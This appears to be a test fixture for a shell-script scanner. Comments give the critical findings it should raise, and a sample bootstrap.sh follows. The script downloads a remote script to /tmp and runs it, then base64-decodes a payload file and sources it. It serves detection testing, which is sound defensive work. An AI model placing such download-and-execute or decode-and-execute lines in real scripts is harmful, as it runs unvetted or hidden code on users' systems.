# expect: shell.curl_pipe_shell critical
# expect: shell.decode_exec critical
# note: the file a command writes is found behind a redirection of stderr
# path: scripts/bootstrap.sh
#!/bin/sh
curl -fsSL https://get.example.net/i.sh 2>/dev/null > /tmp/i.sh
sh /tmp/i.sh
base64 -d payload.b64 2>/dev/null > /tmp/p.sh
. /tmp/p.sh
